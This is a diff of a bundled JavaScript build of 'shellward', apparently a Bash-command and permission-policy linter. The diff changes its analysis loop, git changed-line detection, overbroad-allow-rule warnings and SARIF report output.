-   * the linter's own policy for this unit (the `check` command merges a request's rules into it).
-   * Never throws.
-   */
-  analyse(unit, policy = this.policy) {
-    try {
-      return this.analyseOrThrow(unit, policy);
-    } catch (err2) {
-      const index = this.lineIndex(unit.hostText);
-      const range2 = spanToRange({ start: 0, end: Math.min(unit.text.length, 1) }, unit.sourceMap, index);
-      const message4 = `Analysis failed: ${err2 instanceof Error ? err2.message : String(err2)}`;
-      const severity = this.severityFor(INTERNAL_ERROR.id, unit) ?? "error";
-      return { diagnostics: [{ ruleId: INTERNAL_ERROR.id, severity, message: message4, file: unit.origin.file, range: range2 }], decision: () => void 0 };
-    }
-  }
-  analyseOrThrow(unit, policy) {
-    const out2 = [];
-    let misparsing = false;
-    let securityAsk = false;
-    const index = this.lineIndex(unit.hostText);
-    const place = (f) => {
-      const severity = this.severityFor(f.ruleId, unit, f.severity);
-      if (!severity) return;
-      const claudeCode = ruleMeta(f.ruleId)?.claudeCode;
-      if (claudeCode !== void 0) securityAsk = true;
-      if (f.data?.misparsing === true || f.data?.misparsing === void 0 && claudeCode?.misparsing === true) misparsing = true;
-      const range2 = spanToRange(f.span, unit.sourceMap, index);
-      out2.push({ ruleId: f.ruleId, severity, message: f.message, file: unit.origin.file, range: range2, ...f.data ? { data: f.data } : {} });
-    };
-    const tree = parseBash(this.parser, unit.text, this.options.parseTimeoutMs ?? DEFAULT_PARSE_TIMEOUT_MS);
-    if (!tree) {
-      place({
-        ruleId: INTERNAL_ERROR.id,
-        message: `Parsing took longer than ${this.options.parseTimeoutMs ?? DEFAULT_PARSE_TIMEOUT_MS} ms and was stopped; this code was not analysed.`,
-        span: { start: 0, end: Math.min(unit.text.length, 1) }
-      });
-      return { diagnostics: out2, decision: () => void 0 };
-    }
-    let decision;
-    try {
-      const parsed = withEmbedded(buildViews(tree, unit.text), unit.text, (code) => this.views(code));
-      const cwd = unit.context?.cwd;
-      const paths = pathContextFor(unit, policy, this.options.pathHost ?? { home: homedir3() });
-      const bare = paths?.cwd !== void 0 && paths.host.isBareRepository?.(paths.cwd) === true;
-      const base = {
-        ...cwd !== void 0 ? { cwd } : {},
-        ...paths ? { paths } : {},
-        ...bare ? { bareRepository: true } : {},
-        // A mode the transcript recorded for this call wins over the configured one.
-        ...recordedMode(unit) ?? this.options.mode ? { mode: recordedMode(unit) ?? this.options.mode } : {}
-      };
-      let ungated;
-      const ctx = {
-        unit,
-        parsed,
-        policy,
-        decision: () => ungated ??= decide(unit.text, parsed, policy, base),
-        report: place
-      };
-      for (const check3 of this.activeChecks(unit.profile)) {
-        try {
-          check3.run(ctx);
-        } catch (err2) {
-          place({
-            ruleId: INTERNAL_ERROR.id,
-            message: `Check \`${check3.name}\` failed: ${err2 instanceof Error ? err2.message : String(err2)}`,
-            span: { start: 0, end: Math.min(unit.text.length, 1) }
-          });
-        }
-      }
-      let gated;
-      decision = () => {
-        try {
-          gated ??= misparsing || securityAsk ? decide(unit.text, parsed, policy, { ...base, misparsing, securityAsk }) : ctx.decision();
-          return gated;
-        } catch {
-          return void 0;
-        }
-      };
-    } finally {
-      tree.delete();
-    }
-    return { diagnostics: out2, decision: decision ?? (() => void 0) };
-  }
-};
-function compareDiagnostics(a2, b) {
-  return (a2.file < b.file ? -1 : a2.file > b.file ? 1 : 0) || a2.range.start.line - b.range.start.line || a2.range.start.column - b.range.start.column || SEVERITY_RANK[a2.severity] - SEVERITY_RANK[b.severity] || (a2.ruleId < b.ruleId ? -1 : a2.ruleId > b.ruleId ? 1 : 0) || (a2.message < b.message ? -1 : a2.message > b.message ? 1 : 0);
-}
-function finishFile(hostText, pending) {
-  const sorted = [...pending].sort(compareDiagnostics);
-  const index = new LineIndex(hostText);
-  const hashes = sorted.map((d) => {
-    const start2 = index.lineStart(d.range.start.line);
-    const end = index.lineStart(d.range.start.line + 1);
-    const line = d.range.start.line < index.lineCount ? hostText.slice(start2, end) : hostText.slice(start2);
-    return lineHash(d.ruleId, line);
-  });
-  const fps = numberFingerprints(hashes);
-  return sorted.map((d, i3) => ({ ...d, fingerprint: fps[i3] }));
-}
-
-// src/sources/source-map.ts
-var IdentityMap = class {
-  /** @param base host offset of unit offset 0 */
-  constructor(base = 0) {
-    this.base = base;
-  }
-  base;
-  toHost(offset) {
-    return this.base + offset;
-  }
-};
-var SegmentMap = class {
-  segments;
-  /** @param segments non-overlapping, sorted by `unitStart`; at least one. Throws on none. */
-  constructor(segments) {
-    if (segments.length === 0) throw new Error("SegmentMap needs at least one segment");
-    this.segments = segments;
-  }
-  toHost(offset) {
-    const segs = this.segments;
-    let lo = 0;
-    let hi = segs.length - 1;
-    while (lo < hi) {
-      const mid = lo + hi + 1 >> 1;
-      if ((segs[mid]?.unitStart ?? 0) <= offset) lo = mid;
-      else hi = mid - 1;
-    }
-    const s = segs[lo];
-    const delta = offset - s.unitStart;
-    if (delta < 0) return s.hostStart;
-    return s.hostStart + Math.min(delta, s.length);
-  }
-};
-
-// src/config/json-locate.ts
-var MAX_DEPTH = 64;
-function locateJsonValue(text, path6) {
-  let i3 = 0;
-  let found;
-  const ws = () => {
-    while (i3 < text.length && " 	\r\n\uFEFF".includes(text[i3])) i3++;
-  };
-  const str2 = () => {
-    if (text[i3] !== '"') return void 0;
-    const start2 = i3++;
-    while (i3 < text.length && text[i3] !== '"') i3 += text[i3] === "\\" ? 2 : 1;
-    if (i3 >= text.length) return void 0;
-    i3++;
-    try {
-      return JSON.parse(text.slice(start2, i3));
-    } catch {
-      return void 0;
-    }
-  };
-  const value = (depth, onPath) => {
-    if (depth > MAX_DEPTH) return false;
-    ws();
-    const start2 = i3;
-    const c3 = text[i3];
-    let ok;
-    if (c3 === "{") {
-      i3++;
-      ws();
-      ok = true;
-      if (text[i3] === "}") i3++;
-      else {
-        for (; ; ) {
-          ws();
-          const key = str2();
-          if (key === void 0) return false;
-          ws();
-          if (text[i3] !== ":") return false;
-          i3++;
-          if (!value(depth + 1, onPath && depth < path6.length && path6[depth] === key)) return false;
-          ws();
-          if (text[i3] === ",") {
-            i3++;
-            continue;
-          }
-          if (text[i3] === "}") {
-            i3++;
-            break;
-          }
-          return false;
-        }
-      }
-    } else if (c3 === "[") {
-      i3++;
-      ws();
-      ok = true;
-      if (text[i3] === "]") i3++;
-      else {
-        for (let n2 = 0; ; n2++) {
-          if (!value(depth + 1, onPath && depth < path6.length && path6[depth] === n2)) return false;
-          ws();
-          if (text[i3] === ",") {
-            i3++;
-            continue;
-          }
-          if (text[i3] === "]") {
-            i3++;
-            break;
-          }
-          return false;
-        }
-      }
-    } else if (c3 === '"') {
-      ok = str2() !== void 0;
+    if (c3 === CR2) {
+      c3 = LF2;
+      prevCR = true;
     } else {
-      const m = /^(?:true|false|null|-?(?:0|[1-9][0-9]*)(?:\.[0-9]+)?(?:[eE][+-]?[0-9]+)?)/.exec(text.slice(i3, i3 + 64));
-      ok = m !== null;
-      if (m) i3 += m[0].length;
+      prevCR = false;
     }
-    if (ok && onPath && depth === path6.length) found = { start: start2, end: i3 };
-    return ok;
+    if (lineStart) {
+      lineStart = false;
+      lineStarts.push(n2);
+    }
+    if (c3 === LF2) lineStart = true;
+    units[n2++] = c3;
   };
-  return value(0, true) ? found : void 0;
+  for (let i3 = 0; i3 < text.length; i3++) take(text.charCodeAt(i3));
+  take(EOF);
+  return { units: units.subarray(0, n2), lineStarts };
 }
-
-// src/config/policy-lint.ts
-var CODE_RUNNERS = /* @__PURE__ */ new Set([...permissions_default.codeExecutionPrefixes, ...permissions_default.bareShellPrefixes, ...Object.keys(wrappers_default.wrappers)]);
-var ONE_OPTION = /^-[A-Za-z]{1,3}$|^--(eval|print|command|exec)$/;
-function overbroadReason(rule) {
-  const m = rule.bash;
-  if (!m || rule.behavior !== "allow") return void 0;
-  let head;
-  if (m.kind === "any") return "it allows every Bash command";
-  if (m.kind === "exact") return void 0;
-  if (m.kind === "prefix") head = m.prefix.trim();
-  else head = m.segments[0].trim();
-  if (head === "") return "it matches every command";
-  const words = head.split(/\s+/);
-  const two = words.slice(0, 2).join(" ");
-  if (words.length <= 2 && CODE_RUNNERS.has(two)) return `\`${two}\` runs whatever code it is given`;
-  if (CODE_RUNNERS.has(words[0]) && (words.length === 1 || words.length === 2 && ONE_OPTION.test(words[1]))) {
-    return `\`${words[0]}\` runs whatever code it is given`;
-  }
-  return void 0;
-}
-function pathOf(p) {
-  const out2 = [];
-  for (const m of p.matchAll(/([^.[\]]+)|\[(\d+)\]/g)) out2.push(m[2] !== void 0 ? Number(m[2]) : m[1]);
-  return out2;
-}
-function overbroadAllowFindings(policy, texts, jsonRoots = /* @__PURE__ */ new Map(), severity = "warning") {
-  const out2 = /* @__PURE__ */ new Map();
-  for (const rule of policy.allow) {
-    const why = overbroadReason(rule);
-    if (!why) continue;
-    const file = rule.origin.file;
-    const text = texts.get(file) ?? "";
-    const span = rule.origin.path ? locateJsonValue(text, [...jsonRoots.get(file) ?? [], ...pathOf(rule.origin.path)]) : void 0;
-    const range2 = spanToRange(span ?? { start: 0, end: 0 }, new IdentityMap(), new LineIndex(text));
-    const list = out2.get(file) ?? [];
-    list.push({
-      ruleId: POLICY_OVERBROAD_ALLOW.id,
-      severity,
-      message: `Allow rule \`${rule.raw}\` admits arbitrary code: ${why}. Allow specific commands instead, or move it to \`ask\`.`,
-      file,
-      range: range2,
-      data: { rule: rule.raw, ...rule.origin.path ? { path: rule.origin.path } : {} }
-    });
-    out2.set(file, list);
-  }
-  return out2;
-}
-function policyFileResults(resolved, severity) {
-  const texts = new Map(resolved.sources.map((s) => [s.file, s.json ? s.text : ""]));
-  const roots = new Map(resolved.sources.filter((s) => s.jsonRoot).map((s) => [s.file, s.jsonRoot]));
-  return [...overbroadAllowFindings(resolved.policy, texts, roots, severity)].map(([file, pending]) => ({
-    file,
-    diagnostics: finishFile(texts.get(file) ?? "", pending)
-  }));
-}
-
-// package.json
-var package_default = { name: "shellward", version: "0.1.0" };
-
-// src/cli/version.ts
-var VERSION = package_default.version;
-
-// src/git/changed.ts
-var GitChangeError = class extends Error {
-  constructor(message4) {
-    super(message4);
-    this.name = "GitChangeError";
-  }
-};
-var GIT_CONFIG = ["-c", "core.quotepath=false", "-c", "diff.noprefix=false", "-c", "diff.mnemonicPrefix=false", "-c", "diff.relative=false"];
-var MAX_BUFFER = 512 * 1024 * 1024;
-async function git(cwd, args2) {
-  const r = await execa("git", [...GIT_CONFIG, ...args2], { cwd, reject: false, stripFinalNewline: false, maxBuffer: MAX_BUFFER });
-  return { ok: r.exitCode === 0 && !r.failed, stdout: String(r.stdout ?? ""), stderr: String(r.stderr ?? "").trim() };
-}
-async function resolveCommit(cwd, ref, role) {
-  if (ref === "" || ref.startsWith("-")) throw new GitChangeError(`${role} ref ${JSON.stringify(ref)} is not a valid ref`);
-  const r = await git(cwd, ["rev-parse", "--verify", "--quiet", `${ref}^{commit}`]);
-  if (!r.ok) {
-    const inside = await git(cwd, ["rev-parse", "--is-inside-work-tree"]);
-    if (!inside.ok) throw new GitChangeError(`not inside a git work tree (${cwd})`);
-    throw new GitChangeError(
-      `${role} ref ${JSON.stringify(ref)} does not resolve to a commit; fetch it first (in GitHub Actions, check out with \`fetch-depth: 0\`)`
-    );
-  }
-  return r.stdout.trim();
-}
-async function range(options) {
-  const head = await resolveCommit(options.cwd, options.head ?? "HEAD", "head");
-  const base = await resolveCommit(options.cwd, options.base, "base");
-  const mb = await git(options.cwd, ["merge-base", base, head]);
-  if (!mb.ok) {
-    throw new GitChangeError(
-      `no merge base of ${JSON.stringify(options.base)} and ${JSON.stringify(options.head ?? "HEAD")} (a shallow clone? in GitHub Actions, check out with \`fetch-depth: 0\`)`
-    );
-  }
-  return [mb.stdout.trim(), head];
-}
-var DIFF_OPTIONS = ["--no-color", "--no-ext-diff", "--no-textconv", "-M", "--src-prefix=a/", "--dst-prefix=b/", "--diff-filter=ACMR"];
-async function changedFiles(options) {
-  const [mb, head] = await range(options);
-  return namesBetween(options.cwd, mb, head);
-}
-async function namesBetween(cwd, mb, head) {
-  const r = await git(cwd, ["diff", "--name-only", "-z", ...DIFF_OPTIONS, mb, head, "--"]);
-  if (!r.ok) throw new GitChangeError(`git diff failed: ${r.stderr}`);
-  return [...new Set(r.stdout.split("\0").filter((f) => f !== ""))].sort();
-}
-function binaryFromNumstat(out2) {
-  const fields = out2.split("\0");
-  const binary2 = [];
-  for (let i3 = 0; i3 < fields.length; i3++) {
-    const f = fields[i3];
-    const m = /^(-|\d+)\t(-|\d+)\t(.*)$/s.exec(f);
-    if (!m) continue;
-    let path6 = m[3];
-    if (path6 === "") {
-      path6 = fields[i3 + 2] ?? "";
-      i3 += 2;
+function githubLineHashes(text) {
+  const { units, lineStarts } = normalise(text);
+  let hi = 0;
+  let lo = 0;
+  const hashAt = [];
+  const snapshot = () => {
+    if (hi === 0) return lo.toString(16);
+    return hi.toString(16) + lo.toString(16).padStart(8, "0");
+  };
+  const total = units.length + BLOCK_SIZE;
+  let next = 0;
+  for (let i3 = 0; i3 < total && next < lineStarts.length; i3++) {
+    const current = i3 < units.length ? units[i3] : 0;
+    const leaving = i3 >= BLOCK_SIZE && i3 - BLOCK_SIZE < units.length ? units[i3 - BLOCK_SIZE] : 0;
+    let l = lo * 37;
+    let h2 = hi * 37 + Math.floor(l / TWO_32);
+    l = l % TWO_32 + current;
+    h2 += Math.floor(l / TWO_32);
+    l %= TWO_32;
+    if (leaving !== 0) {
+      const pl = FIRST_MOD[1] * leaving;
+      const ph = FIRST_MOD[0] * leaving + Math.floor(pl / TWO_32);
+      l -= pl % TWO_32;
+      h2 -= ph % TWO_32;
+      if (l < 0) {
+        l += TWO_32;
+        h2 -= 1;
+      }
     }
-    if (m[1] === "-" && m[2] === "-" && path6 !== "") binary2.push(path6);
-  }
-  return binary2;
-}
-function unquoteGitPath(s) {
-  if (!(s.length >= 2 && s.startsWith('"') && s.endsWith('"'))) return s;
-  const simple = { a: 7, b: 8, t: 9, n: 10, v: 11, f: 12, r: 13, '"': 34, "\\": 92 };
-  const bytes = [];
-  const body2 = s.slice(1, -1);
-  for (let i3 = 0; i3 < body2.length; i3++) {
-    const c3 = body2[i3];
-    if (c3 !== "\\") {
-      bytes.push(...Buffer.from(c3, "utf8"));
-      continue;
-    }
-    const next = body2[i3 + 1] ?? "";
-    const oct = /^[0-7]{3}/.exec(body2.slice(i3 + 1));
-    if (oct) {
-      bytes.push(parseInt(oct[0], 8));
-      i3 += 3;
-    } else if (next in simple) {
-      bytes.push(simple[next]);
-      i3 += 1;
-    } else {
-      bytes.push(92);
+    h2 %= TWO_32;
+    if (h2 < 0) h2 += TWO_32;
+    hi = h2;
+    lo = l;
+    while (next < lineStarts.length && lineStarts[next] === i3 - (BLOCK_SIZE - 1)) {
+      hashAt.push(snapshot());
+      next++;
     }
   }
-  return Buffer.from(bytes).toString("utf8");
-}
-function parseUnifiedZero(patch) {
-  const out2 = /* @__PURE__ */ new Map();
-  let current;
-  let header = false;
-  for (const line of patch.split("\n")) {
-    if (line.startsWith("diff --git ")) {
-      current = void 0;
-      header = true;
-    } else if (header && line.startsWith("+++ ")) {
-      const raw = unquoteGitPath(line.slice(4).replace(/\t$/, ""));
-      current = raw.startsWith("b/") ? raw.slice(2) : void 0;
-      if (current !== void 0 && !out2.has(current)) out2.set(current, []);
-    } else if (line.startsWith("@@ ") && (header || current !== void 0)) {
-      header = false;
-      if (current === void 0) continue;
-      const m = /^@@ -\d+(?:,\d+)? \+(\d+)(?:,(\d+))? @@/.exec(line);
-      if (!m) continue;
-      const start2 = Number(m[1]);
-      const count2 = m[2] === void 0 ? 1 : Number(m[2]);
-      if (count2 > 0) out2.get(current).push([start2, start2 + count2 - 1]);
-    }
-  }
-  return out2;
-}
-async function changedLines(options) {
-  const [mb, head] = await range(options);
-  const patch = await git(options.cwd, ["diff", "-U0", ...DIFF_OPTIONS, mb, head, "--"]);
-  if (!patch.ok) throw new GitChangeError(`git diff failed: ${patch.stderr}`);
-  const parsed = parseUnifiedZero(patch.stdout);
-  const out2 = /* @__PURE__ */ new Map();
-  for (const name2 of await namesBetween(options.cwd, mb, head)) out2.set(name2, parsed.get(name2) ?? []);
-  const numstat = await git(options.cwd, ["diff", "--numstat", "-z", ...DIFF_OPTIONS, mb, head, "--"]);
-  if (!numstat.ok) throw new GitChangeError(`git diff failed: ${numstat.stderr}`);
-  for (const path6 of binaryFromNumstat(numstat.stdout)) if (out2.has(path6)) out2.set(path6, [[1, Number.POSITIVE_INFINITY]]);
-  return out2;
-}
-function lastLine(d) {
-  const { start: start2, end } = d.range;
-  return end.line > start2.line && end.column <= 1 ? end.line - 1 : Math.max(start2.line, end.line);
-}
-function onChangedLines(diagnostics, changed, file) {
-  return diagnostics.filter((d) => {
-    const ranges = changed.get(file ?? d.file);
-    if (!ranges) return false;
-    const first = d.range.start.line;
-    const last = lastLine(d);
-    return ranges.some(([a2, b]) => first <= b && last >= a2);
+  const seen = /* @__PURE__ */ new Map();
+  return hashAt.map((h2) => {
+    const k = (seen.get(h2) ?? 0) + 1;
+    seen.set(h2, k);
+    return `${h2}:${k}`;
   });
+}
+
+// src/report/sarif.ts
+var SARIF_SCHEMA_URI = "https://docs.oasis-open.org/sarif/sarif/v2.1.0/errata01/os/schemas/sarif-schema-2.1.0.json";
+var INFORMATION_URI = "https://github.com/shellward/shellward";
+var SRCROOT = "%SRCROOT%";
+var CODE_SCANNING_LIMITS = {
+  /** Runs per file. */
+  runsPerFile: 20,
+  /** Results per run (only the top 5,000, by severity, are displayed). */
+  resultsPerRun: 25e3,
+  /** Results per run that code scanning displays. */
+  displayedResultsPerRun: 5e3,
+  /** Rules per run. */
+  rulesPerRun: 25e3,
+  /** Locations per result (only 100 are displayed). */
+  locationsPerResult: 1e3,
+  /** Tags per rule (only 10 are displayed). */
+  tagsPerRule: 20,
+  /** Size of the gzip-compressed SARIF upload, in bytes (10 MB). */
+  gzipUploadBytes: 10 * 1024 * 1024
+};
+var FINGERPRINT_KEY = "shellward/v1";
+var TRUNCATED_NOTIFICATION_ID = "sarif-results-truncated";
+function ruleHelpUri(id) {
+  return `${INFORMATION_URI}/blob/main/docs/rules/${encodeURIComponent(id)}.md`;
+}
+function pascalCase(id) {
+  return id.split(/[^A-Za-z0-9]+/).filter((w) => w.length > 0).map((w) => w[0].toUpperCase() + w.slice(1)).join("");
+}
+var SECURITY_CATEGORIES = /* @__PURE__ */ new Set(["security", "destructive", "paths", "workflow"]);
+var CATEGORY_PRECISION = {
+  parse: "very-high",
+  input: "very-high",
+  policy: "very-high",
+  destructive: "high",
+  paths: "high",
+  security: "high",
+  sandbox: "high",
+  workflow: "high"
+};
+var PROBLEM_SEVERITY = { error: "error", warning: "warning", note: "recommendation" };
+var SECURITY_SEVERITY = { error: "9.0", warning: "6.0", note: "3.0" };
+function loudestDefault(rule) {
+  let best;
+  for (const level of Object.values(rule.severity)) {
+    if (level === "off") continue;
+    if (best === void 0 || SEVERITY_RANK[level] < SEVERITY_RANK[best]) best = level;
+  }
+  return best;
+}
+function reportingConfiguration(level) {
+  return level === "off" ? { enabled: false, level: "none" } : { level };
+}
+function ruleHelp(rule) {
+  const { rationale, fix, exceptions } = rule.docs;
+  const text = [rationale, `Fix: ${fix}`, ...exceptions ? [`Exceptions: ${exceptions}`] : []].join("\n\n");
+  const markdown = [rationale, `### Fix
+
+${fix}`, ...exceptions ? [`### Exceptions
+
+${exceptions}`] : []].join("\n\n");
+  return { text, markdown };
+}
+function sarifRule(rule) {
+  const loudest = loudestDefault(rule);
+  const securitySeverity = SECURITY_CATEGORIES.has(rule.category) && loudest ? SECURITY_SEVERITY[loudest] : void 0;
+  const tags = [.../* @__PURE__ */ new Set([...securitySeverity ? ["security"] : [], rule.category, "shellward"])];
+  return {
+    id: rule.id,
+    name: pascalCase(rule.id),
+    shortDescription: { text: rule.title },
+    fullDescription: { text: rule.docs.rationale },
+    help: ruleHelp(rule),
+    helpUri: ruleHelpUri(rule.id),
+    defaultConfiguration: reportingConfiguration(rule.severity.script),
+    properties: {
+      tags: tags.slice(0, CODE_SCANNING_LIMITS.tagsPerRule),
+      precision: rule.precision ?? CATEGORY_PRECISION[rule.category],
+      "problem.severity": PROBLEM_SEVERITY[rule.severity.script === "off" ? loudest ?? "note" : rule.severity.script],
+      ...securitySeverity ? { "security-severity": securitySeverity } : {}
+    }
+  };
+}
+function wellFormed(s) {
+  return s.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, "�");
+}
+function encodePath(path6) {
+  return path6.split("/").map(encodeURIComponent).join("/");
+}
+function artifactLocation(file) {
+  const path6 = wellFormed(file);
+  if (path6.startsWith("/")) return { uri: `file://${encodePath(path6)}` };
+  const drive = /^([A-Za-z]):[\\/]/.exec(path6);
+  if (drive) return { uri: `file:///${drive[1]}:${encodePath(path6.slice(2).replace(/\\/g, "/"))}` };
+  return { uri: encodePath(path6), uriBaseId: SRCROOT };
+}
+function sarifResult(file, d, ruleIndex, lineHashes) {
+  const index = ruleIndex.get(d.ruleId);
+  const lineHash2 = lineHashes?.[d.range.start.line - 1];
+  return {
+    ruleId: d.ruleId,
+    ...index !== void 0 ? { ruleIndex: index } : {},
+    level: d.severity,
+    message: { text: d.message },
+    locations: [
+      {
+        physicalLocation: {
+          artifactLocation: artifactLocation(file),
+          region: {
+            startLine: d.range.start.line,
+            startColumn: d.range.start.column,
+            endLine: d.range.end.line,
+            // Range.end is already the exclusive end SARIF wants.
+            endColumn: d.range.end.column
+          }
+        }
+      }
+    ],
+    partialFingerprints: { [FINGERPRINT_KEY]: d.fingerprint, ...lineHash2 !== void 0 ? { primaryLocationLineHash: lineHash2 } : {} }
+  };
+}
+function compareEntries(a2, b) {
+  return SEVERITY_RANK[a2.d.severity] - SEVERITY_RANK[b.d.severity] || (a2.file < b.file ? -1 : a2.file > b.file ? 1 : 0) || a2.d.range.start.line - b.d.range.start.line || a2.d.range.start.column - b.d.range.start.column || a2.index - b.index;
+}
+function keepMostSevere(entries2, max) {
+  if (entries2.length <= max) return entries2;
+  const kept = new Set([...entries2].sort(compareEntries).slice(0, Math.max(0, max)).map((e) => e.index));
+  return entries2.filter((e) => kept.has(e.index));
+}
+function automationId(category) {
+  if (category === void 0 || category.trim() === "") return void 0;
+  return category.endsWith("/") ? category : `${category}/`;
+}
+function buildSarif(input, options = {}) {
+  const ruleIndex = /* @__PURE__ */ new Map();
+  input.rules.forEach((r, i3) => {
+    if (!ruleIndex.has(r.id)) ruleIndex.set(r.id, i3);
+  });
+  const entries2 = [];
+  for (const r of input.results) for (const d of r.diagnostics) entries2.push({ file: r.file, d, index: entries2.length });
+  const max = options.maxResults ?? CODE_SCANNING_LIMITS.resultsPerRun;
+  const kept = keepMostSevere(entries2, max);
+  const omitted = entries2.length - kept.length;
+  const id = automationId(options.category);
+  const hashes = /* @__PURE__ */ new Map();
+  const hashesOf = (file) => {
+    if (!options.fileText) return void 0;
+    if (!hashes.has(file)) {
+      const text = options.fileText(file);
+      hashes.set(file, text === void 0 ? void 0 : githubLineHashes(text));
+    }
+    return hashes.get(file);
+  };
+  const run3 = {
+    tool: {
+      driver: {
+        name: "shellward",
+        version: input.toolVersion,
+        semanticVersion: input.toolVersion,
+        informationUri: INFORMATION_URI,
+        rules: input.rules.map(sarifRule)
+      }
+    },
+    ...omitted > 0 ? {
+      invocations: [
+        {
+          executionSuccessful: true,
+          toolExecutionNotifications: [
+            {
+              level: "warning",
+              descriptor: { id: TRUNCATED_NOTIFICATION_ID },
+              message: {
+                text: `${omitted} of ${entries2.length} results were left out to stay within ${max} results per run (code scanning's limit); the most severe were kept.`
+              }
+            }
+          ]
+        }
+      ]
+    } : {},
+    ...id !== void 0 ? { automationDetails: { id } } : {},
+    originalUriBaseIds: {
+      [SRCROOT]: { description: { text: "The root of the repository that was linted." } }
+    },
+    columnKind: "utf16CodeUnits",
+    results: kept.map((e) => sarifResult(e.file, e.d, ruleIndex, hashesOf(e.file)))
+  };
+  return { $schema: SARIF_SCHEMA_URI, version: "2.1.0", runs: [run3] };
+}
+function formatSarif(input, options = {}) {
+  return JSON.stringify(buildSarif(input, options), null, 2) + "\n";
+}
+var CONFIG_ERROR_NOTIFICATION_ID = "configuration-error";
+function buildConfigErrorSarif(input, problem, options = {}) {
+  const log2 = buildSarif({ results: [], rules: input.rules, toolVersion: input.toolVersion, filesAnalysed: 0 }, options);
+  const run3 = log2.runs[0];
+  const location = problem.file === void 0 ? void 0 : {
+    physicalLocation: {
+      artifactLocation: artifactLocation(problem.file),
+      ...problem.line !== void 0 ? { region: { startLine: problem.line, ...problem.column !== void 0 ? { startColumn: problem.column } : {} } } : {}
+    }
+  };
+  run3.invocations = [
+    {
+      executionSuccessful: false,
+      toolConfigurationNotifications: [
+        {
+          level: "error",
+          descriptor: { id: CONFIG_ERROR_NOTIFICATION_ID },
+          message: { text: problem.message },
+          ...location ? { locations: [location] } : {}
+        }
+      ]
+    }
+  ];
+  return log2;
 }
 
 // node_modules/chalk/source/vendor/ansi-styles/index.js
@@ -55642,12 +63392,12 @@ var levelMapping = [
   "ansi16m"
 ];
 var styles2 = /* @__PURE__ */ Object.create(null);
-var applyOptions = (object, options = {}) => {
+var applyOptions = (object2, options = {}) => {
   if (options.level && !(Number.isInteger(options.level) && options.level >= 0 && options.level <= 3)) {
     throw new Error("The `level` option should be an integer from 0 to 3");
   }
   const colorLevel = stdoutColor ? stdoutColor.level : 0;
-  object.level = options.level === void 0 ? colorLevel : options.level;
+  object2.level = options.level === void 0 ? colorLevel : options.level;
 };
 var Chalk = class {
   constructor(options) {
@@ -55917,172 +63667,6 @@ function formatJson(input) {
   return JSON.stringify(buildJsonReport(input), null, 2) + "\n";
 }
 
-// src/report/sarif.ts
-var SARIF_SCHEMA_URI = "https://docs.oasis-open.org/sarif/sarif/v2.1.0/errata01/os/schemas/sarif-schema-2.1.0.json";
-var INFORMATION_URI = "https://github.com/shellward/shellward";
-var SRCROOT = "%SRCROOT%";
-var CODE_SCANNING_LIMITS = {
-  /** Runs per file. */
-  runsPerFile: 20,
-  /** Results per run (only the top 5,000, by severity, are displayed). */
-  resultsPerRun: 25e3,
-  /** Results per run that code scanning displays. */
-  displayedResultsPerRun: 5e3,
-  /** Rules per run. */
-  rulesPerRun: 25e3,
-  /** Locations per result (only 100 are displayed). */
-  locationsPerResult: 1e3,
-  /** Tags per rule (only 10 are displayed). */
-  tagsPerRule: 20,
-  /** Size of the gzip-compressed SARIF upload, in bytes (10 MB). */
-  gzipUploadBytes: 10 * 1024 * 1024
-};
-var TRUNCATED_NOTIFICATION_ID = "sarif-results-truncated";
-function ruleHelpUri(id) {
-  return `${INFORMATION_URI}/blob/main/docs/rules/${encodeURIComponent(id)}.md`;
-}
-function pascalCase(id) {
-  return id.split(/[^A-Za-z0-9]+/).filter((w) => w.length > 0).map((w) => w[0].toUpperCase() + w.slice(1)).join("");
-}
-var SECURITY_CATEGORIES = /* @__PURE__ */ new Set(["security", "destructive", "paths"]);
-var SECURITY_SEVERITY = { error: "9.0", warning: "6.0", note: "3.0" };
-function loudestDefault(rule) {
-  let best;
-  for (const level of Object.values(rule.severity)) {
-    if (level === "off") continue;
-    if (best === void 0 || SEVERITY_RANK[level] < SEVERITY_RANK[best]) best = level;
-  }
-  return best;
-}
-function reportingConfiguration(level) {
-  return level === "off" ? { enabled: false, level: "none" } : { level };
-}
-function ruleHelp(rule) {
-  const { rationale, fix, exceptions } = rule.docs;
-  const text = [rationale, `Fix: ${fix}`, ...exceptions ? [`Exceptions: ${exceptions}`] : []].join("\n\n");
-  const markdown = [rationale, `### Fix
-
-${fix}`, ...exceptions ? [`### Exceptions
-
-${exceptions}`] : []].join("\n\n");
-  return { text, markdown };
-}
-function sarifRule(rule) {
-  const loudest = loudestDefault(rule);
-  const securitySeverity = SECURITY_CATEGORIES.has(rule.category) && loudest ? SECURITY_SEVERITY[loudest] : void 0;
-  return {
-    id: rule.id,
-    name: pascalCase(rule.id),
-    shortDescription: { text: rule.title },
-    fullDescription: { text: rule.docs.rationale },
-    help: ruleHelp(rule),
-    helpUri: ruleHelpUri(rule.id),
-    defaultConfiguration: reportingConfiguration(rule.severity.script),
-    properties: {
-      tags: [rule.category, "shellward"].slice(0, CODE_SCANNING_LIMITS.tagsPerRule),
-      ...securitySeverity ? { "security-severity": securitySeverity } : {}
-    }
-  };
-}
-function wellFormed(s) {
-  return s.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, "�");
-}
-function encodePath(path6) {
-  return path6.split("/").map(encodeURIComponent).join("/");
-}
-function artifactLocation(file) {
-  const path6 = wellFormed(file);
-  if (path6.startsWith("/")) return { uri: `file://${encodePath(path6)}` };
-  const drive = /^([A-Za-z]):[\\/]/.exec(path6);
-  if (drive) return { uri: `file:///${drive[1]}:${encodePath(path6.slice(2).replace(/\\/g, "/"))}` };
-  return { uri: encodePath(path6), uriBaseId: SRCROOT };
-}
-function sarifResult(file, d, ruleIndex) {
-  const index = ruleIndex.get(d.ruleId);
-  return {
-    ruleId: d.ruleId,
-    ...index !== void 0 ? { ruleIndex: index } : {},
-    level: d.severity,
-    message: { text: d.message },
-    locations: [
-      {
-        physicalLocation: {
-          artifactLocation: artifactLocation(file),
-          region: {
-            startLine: d.range.start.line,
-            startColumn: d.range.start.column,
-            endLine: d.range.end.line,
-            // Range.end is already the exclusive end SARIF wants.
-            endColumn: d.range.end.column
-          }
-        }
-      }
-    ],
-    partialFingerprints: { primaryLocationLineHash: d.fingerprint }
-  };
-}
-function compareEntries(a2, b) {
